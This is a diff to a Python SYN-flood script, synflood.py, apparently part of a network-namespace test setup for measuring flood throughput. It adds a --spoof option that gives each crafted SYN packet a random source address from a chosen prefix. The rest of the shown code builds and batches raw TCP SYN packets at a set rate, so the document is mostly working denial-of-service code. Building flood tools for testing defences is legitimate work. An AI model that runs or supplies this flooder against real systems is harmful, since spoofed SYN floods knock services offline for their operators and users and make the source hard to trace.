@@ -1,4 +1,4 @@
-"""Send a SYN flood from one IPv4 address, through a raw socket, and print what was sent as JSON.
+"""Send a SYN flood from one IPv4 address (or spoofed ones), through a raw socket; print what was sent as JSON.
 
 Run inside the flooding namespace (as root):
     synflood.py SRC DST PORT --duration 5 [--rate 20000] [--count N]
@@ -14,6 +14,7 @@ Printed: {"sent", "elapsed", "per_sec", "send_errors", "cpu_s", "user_s"} (CPU o
 import argparse
 import ctypes
 import ctypes.util
+import ipaddress
 import json
 import random
 import resource
@@ -59,12 +60,18 @@ def syn(src, dst, sport, dport, seq):
     return header + tcp
 
 
-def pool(src, dst, port, size):
-    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
+def pool(src, dst, port, size, spoof=None):
+    """SIZE distinct SYNs from SRC, or (SPOOF, a prefix) each from a random address of SPOOF."""
+    dst = socket.inet_aton(dst)
     rng = random.Random(17)
     ports = list(range(1024, 65536))
     rng.shuffle(ports)
-    return [syn(src, dst, ports[i % len(ports)], port, rng.getrandbits(32)) for i in range(size)]
+    if spoof:
+        net = ipaddress.ip_network(spoof)
+        sources = [socket.inet_aton(str(net[rng.randrange(1, net.num_addresses - 1)])) for _ in range(size)]
+    else:
+        sources = [socket.inet_aton(src)] * size
+    return [syn(sources[i], dst, ports[i % len(ports)], port, rng.getrandbits(32)) for i in range(size)]
 
 
 def batches(packets, dst):
@@ -94,8 +101,9 @@ def main():
     parser.add_argument('--rate', type=float, default=0.0, help='SYNs per second (0: as fast as possible)')
     parser.add_argument('--count', type=int, default=0, help='stop after this many SYNs (0: no limit)')
     parser.add_argument('--pool', type=int, default=64512, help='distinct SYNs to cycle through')
+    parser.add_argument('--spoof', help='a prefix: each SYN from a random address of it (SRC is not used)')
     args = parser.parse_args()
-    libc, _address, ready = batches(pool(args.src, args.dst, args.port, max(BATCH, args.pool)), args.dst)
+    libc, _address, ready = batches(pool(args.src, args.dst, args.port, max(BATCH, args.pool), args.spoof), args.dst)
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
     fd = sock.fileno()
